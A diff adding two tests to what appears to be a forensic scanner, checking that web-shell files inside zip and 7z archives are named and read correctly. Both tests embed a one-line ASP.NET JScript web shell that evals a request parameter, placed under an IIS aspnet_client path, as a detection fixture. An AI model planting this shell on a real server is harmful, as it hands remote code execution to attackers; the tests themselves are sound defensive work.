@@ -298,3 +298,29 @@ def test_a_file_gone_before_it_is_hashed_is_recorded_not_fatal(tmp_path: Path,
     assert result.document.hosts
     record = next(r for r in manifest.load(tmp_path / "case") if r.rel.endswith(victim.name))
     assert record.sha256.startswith("unreadable")
+
+
+def test_a_gzipped_member_of_an_archive_keeps_its_name(tmp_path: Path) -> None:
+    """x.aspx.gz inside a zip is one page named x.aspx (it was '<zip index>.out', so the web-shell
+    checks that go by path missed it)."""
+    import gzip
+
+    shell = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'
+    archive_path = tmp_path / "collection.zip"
+    with zipfile.ZipFile(archive_path, "w") as z:
+        z.writestr("C/inetpub/wwwroot/aspnet_client/system_web/x.aspx.gz", gzip.compress(shell))
+    result = scan([archive_path], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True, html_report=False))
+    paths = {r[0] for r in connect(tmp_path / "case" / "store").execute("SELECT path FROM files").fetchall()}
+    assert any(p.endswith("system_web/x.aspx.gz/x.aspx") for p in paths), paths
+    assert any(f.check == "webshell.placement" for f in result.document.findings)
+
+
+def test_two_7z_members_of_one_name_are_each_read(tmp_path: Path) -> None:
+    shell = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'
+    archive_path = tmp_path / "dup.7z"
+    with py7zr.SevenZipFile(archive_path, "w") as z:
+        z.writestr(shell, "C/inetpub/wwwroot/aspnet_client/x.aspx")
+        z.writestr(b"benign page", "C/inetpub/wwwroot/aspnet_client/x.aspx")
+    scan([archive_path], ScanOptions(out=tmp_path / "case", host="h", jobs=1, quiet=True, html_report=False))
+    rows = connect(tmp_path / "case" / "store").execute("SELECT path, size FROM files ORDER BY path").fetchall()
+    assert [size for _, size in rows] == [len(shell), len(b"benign page")], rows
